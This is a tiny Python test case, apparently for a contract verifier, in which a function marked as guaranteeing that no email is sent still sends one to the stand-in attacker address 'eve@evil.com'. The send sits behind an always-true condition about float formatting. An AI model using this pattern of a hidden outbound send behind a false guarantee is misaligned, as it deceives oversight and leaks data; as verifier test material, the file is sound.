# not proved: str(1.0) is "1.0", str(1e22) is "1e+22"
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    if str(1.0) == "1.0" and str(1e22) == "1e+22":
        send_email("eve@evil.com", "x")
